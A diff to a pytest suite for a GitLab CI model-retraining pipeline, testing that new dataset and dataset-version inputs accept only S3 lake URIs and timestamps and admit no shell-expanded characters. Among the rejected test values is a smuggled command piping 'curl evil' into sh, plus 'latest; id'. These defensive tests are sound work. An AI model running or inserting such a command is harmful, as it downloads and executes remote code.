@@ -262,7 +262,10 @@ def test_a_trigger_records_its_inputs_in_trigger_json(tmp_path: Path) -> None:
         "alert_name": "OnlineAucLow",
         "alert_reason": reason,
     }
-    assert "${FORKCAST_DATA_DIR:?" in "\n".join(resolved("prep")["script"])
+    # The data is the pipeline's dataset input (here its default), read from S3: no runner directory.
+    prep = "\n".join(resolved("prep")["script"])
+    assert '--data "s3://forkcast-lake/datasets/full" --data-version ""' in prep
+    assert "FORKCAST_DATA_DIR" not in (ROOT / ".gitlab-ci.yml").read_text()
 
 
 @pytest.mark.parametrize(
@@ -293,7 +296,7 @@ def test_jobs_read_the_alert_from_inputs_not_from_variables() -> None:
     text = (ROOT / ".gitlab-ci.yml").read_text()
     assert not re.search(r"\$\{?(ALERT|ROLLBACK)_", text)
     used = set(_INPUT.findall(yaml.dump(documents()[1])))
-    assert used == set(inputs_spec()) == {"alert_name", "alert_reason"}
+    assert used == set(inputs_spec()) == {"alert_name", "alert_reason", "dataset", "dataset_version"}
 
 
 # What bash expands inside a double-quoted word, or what ends it (GNU bash manual, "Double Quotes"): the inputs are
@@ -313,6 +316,54 @@ def test_the_reason_regex_admits_nothing_the_shell_expands() -> None:
     # Twin: a permissive regex is reported by the same check.
     loose = {chr(c) for c in range(128) if re.fullmatch(r"^[^\n]{0,200}$", chr(c))}
     assert loose & _EXPANDED_IN_DOUBLE_QUOTES == {"$", "`", '"', "\\", "!"}
+
+
+@pytest.mark.parametrize("name", ["dataset", "dataset_version"])
+def test_the_dataset_inputs_admit_nothing_the_shell_expands(name: str) -> None:
+    pattern = re.compile(inputs_spec()[name]["regex"])
+    admitted = {
+        chr(c) for c in range(128) if pattern.fullmatch(("s3://abc/" if name == "dataset" else "") + chr(c))
+    }
+    assert admitted and not admitted & _EXPANDED_IN_DOUBLE_QUOTES, sorted(
+        admitted & _EXPANDED_IN_DOUBLE_QUOTES
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "admitted"),
+    [
+        ("dataset", "s3://forkcast-lake/datasets/full", True),
+        ("dataset", "s3://forkcast-lake/training/2026-12-05/", True),
+        ("dataset", "/srv/data/full", False),  # a runner's disk
+        ("dataset", "s3://forkcast-lake", False),  # a bucket, no dataset
+        ("dataset", 's3://b/x"; curl evil | sh; "', False),
+        ("dataset_version", "", True),
+        ("dataset_version", "12", True),
+        ("dataset_version", "2026-12-05T02:00:00Z", True),
+        ("dataset_version", "2026-12-05T02:00:00+01:00", True),
+        ("dataset_version", "2026-12-05T02:00:00", False),  # no zone: prep would refuse it
+        ("dataset_version", "latest; id", False),
+    ],
+)
+def test_the_dataset_inputs_admit_a_lake_uri_and_version_only(name: str, value: str, admitted: bool) -> None:
+    assert bool(re.fullmatch(inputs_spec()[name]["regex"], value)) is admitted
+
+
+def test_ci_and_the_workflow_take_the_dataset_under_the_same_names() -> None:
+    """One dataset URI and version: the inputs' names are the Workflow's parameters, passed through unchanged."""
+    (call,) = [c for c in documents()[1]["train-on-cluster"]["script"] if "forkcast_retrain.workflow" in c]
+    params = {p["name"] for p in workflow.workflow_template()["spec"]["arguments"]["parameters"]}
+    for name in ("dataset", "dataset_version"):
+        assert name in params
+        assert f'--param {name}="$[[ inputs.{name} ]]"' in call
+    default = inputs_spec()["dataset"]["default"]
+    workflow.check_dataset_uri(default)  # the template accepts what CI sends by default
+    assert (
+        workflow.workflow({"dataset": default, "dataset_version": ""})["spec"]["arguments"]["parameters"][0][
+            "value"
+        ]
+        == default
+    )
 
 
 def routed_to_retrain(docs: list[dict[str, Any]]) -> set[str]:
@@ -730,7 +781,7 @@ def test_the_cluster_job_submits_the_candidate_dag_waits_and_fetches_the_run() -
         args = workflow.build_parser().parse_args(words[3:])
         assert args.command == "submit" and args.entrypoint == workflow.CANDIDATE_ENTRYPOINT
         assert args.wait and args.fetch_run is not None and args.bucket
-        assert {"image", "recipe", "dataset"} == dict(args.param).keys()
+        assert {"image", "recipe", "dataset", "dataset_version", "train_nodes"} == dict(args.param).keys()
     assert '--fetch-run "$RUN_DIR"' in call and f"--param image={RETRAIN_IMAGE}" in call
     # The image those jobs run has the kubernetes client the submit needs.
     assert "--extra workflows" in (ROOT / "pipelines/retrain/Dockerfile").read_text()
@@ -757,23 +808,18 @@ def _run_cluster_job(tmp_path: Path, env: dict[str, str]) -> subprocess.Complete
         ({"TRAIN_EXECUTOR": "Argo"}, "TRAIN_EXECUTOR=Argo: expected ci (train in CI jobs) or argo"),
         ({"TRAIN_EXECUTOR": "argo", "ARGO_ARTIFACT_BUCKET": "b"}, "set ARGO_NAMESPACE"),
         ({"TRAIN_EXECUTOR": "argo", "ARGO_NAMESPACE": "ml"}, "set ARGO_ARTIFACT_BUCKET"),
-        (
-            {"TRAIN_EXECUTOR": "argo", "ARGO_NAMESPACE": "ml", "ARGO_ARTIFACT_BUCKET": "b"},
-            "set FORKCAST_DATASET_URI",
-        ),
         # Everything set but credentials for the Kubernetes API (no KUBECONFIG file, not in a pod).
         (
             {
                 "TRAIN_EXECUTOR": "argo",
                 "ARGO_NAMESPACE": "ml",
                 "ARGO_ARTIFACT_BUCKET": "b",
-                "FORKCAST_DATASET_URI": "s3://b/datasets/d/",
                 "KUBECONFIG": "absent",
             },
             "not submitted: no Kubernetes credentials",
         ),
     ],
-    ids=["typo", "namespace", "bucket", "dataset", "credentials"],
+    ids=["typo", "namespace", "bucket", "credentials"],
 )
 def test_the_cluster_job_stops_before_submitting_when_something_is_missing(
     tmp_path: Path, env: dict[str, str], message: str
